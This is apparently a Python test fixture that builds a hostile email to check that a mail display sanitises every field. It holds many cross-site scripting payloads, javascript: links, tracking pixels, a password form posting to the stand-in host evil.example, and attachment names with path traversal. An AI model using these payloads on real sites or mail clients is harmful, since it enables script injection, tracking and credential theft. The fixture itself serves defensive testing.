"""A mail that is hostile in every field that a page shows. ``stolen()`` is what its scripts would call."""

from __future__ import annotations

from centre_world import mail

MARK = "stolen(1)"
TAGS = (
    f"<img src=x onerror={MARK}>", f"<script>{MARK}</script>", f'"><svg onload={MARK}>', f"'-{MARK}-'",
    f"</title><script>{MARK}</script>", f"</textarea><script>{MARK}</script>", f"<a href=javascript:{MARK}>x</a>",
    f"{{{{ 7*7 }}}}<script>{MARK}</script>{{% debug %}}", f"\x02<b onmouseover={MARK}>\x03",
)  # fmt: skip
HTML = f"""<!doctype html><html><head><meta http-equiv=refresh content="0;url=javascript:{MARK}"><base href="https://evil.example/">
<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/y.css"; body{{background:url(https://evil.example/z.png)}}</style>
<script>{MARK}</script></head><body onload="{MARK}" background="https://evil.example/b.png">
<p id="conversation-title">Texte du message piégé</p><img src="https://evil.example/pixel.gif"><img src=x onerror="{MARK}">
<svg><script>{MARK}</script><a xlink:href="javascript:{MARK}"><text y=20>svg</text></a></svg><math><mtext><script>{MARK}</script></math>
<iframe srcdoc="<script>parent.{MARK}</script>"></iframe><object data="data:text/html,<script>{MARK}</script>"></object><embed src="https://evil.example/e">
<form action="https://evil.example/f"><input name=password autofocus onfocus="{MARK}"><button formaction="javascript:{MARK}">ok</button></form>
<video src="https://evil.example/v" autoplay onerror="{MARK}"></video><a href="java&#10;script:{MARK}">lien</a><a href="data:text/html,<script>{MARK}</script>">data</a>
<noscript><p title="</noscript><img src=x onerror={MARK}>"></noscript><template><script>{MARK}</script></template>
<p style="position:fixed;inset:0;background:url('https://evil.example/s.png');width:expression({MARK})">par-dessus</p></body></html>"""
FILES = tuple(
    (f"{tag.replace('/', '_')[:60]}.{end}", type_, b"<script>stolen(1)</script>")
    for tag, end, type_ in (
        (TAGS[0], "html", "text/html"), (TAGS[1], "svg", "image/svg+xml"), (TAGS[2], "xml", "application/xml"),
        ("../../../etc/passwd", "js", "text/javascript"), ("..\\\\..\\\\x", "xhtml", "application/xhtml+xml"),
        ("photo", "png", "image/png"), ("x", "swf", "application/x-shockwave-flash"), ("y", "pdf", "application/pdf"),
    )
)  # fmt: skip


def hostile(tag: str, number: int = 0) -> bytes:
    """One such mail; ``tag`` stands in name, subject and text."""
    plain = tag.replace('"', "'").replace("\x02", "").replace("\x03", "")
    raw = mail(
        sender=f'"{plain} Pirate" <pirate{number}@client.example>', subject=f"Piège {plain}",
        text=f'Bonjour relevé {tag}\n\n{TAGS[1]} https://evil.example/{MARK}"onclick="{MARK}\n\n> {tag}', html=HTML, files=FILES,
    )  # fmt: skip
    # Control characters come in encoded, as the header machinery of Python would not write them.
    return raw.replace(b"Subject: ", b"Subject: =?utf-8?q?=02relev=C3=A9=03=3Cb_onclick=3Dstolen(1)=3E?= ", 1)
